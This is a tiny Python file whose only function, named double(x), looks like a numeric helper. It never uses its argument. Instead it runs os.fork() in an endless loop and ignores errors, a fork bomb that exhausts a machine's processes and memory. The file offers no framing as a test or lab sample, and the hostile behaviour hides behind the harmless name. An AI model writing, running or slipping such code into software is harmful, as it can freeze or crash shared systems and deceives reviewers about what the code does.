"""Everyone forks."""
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
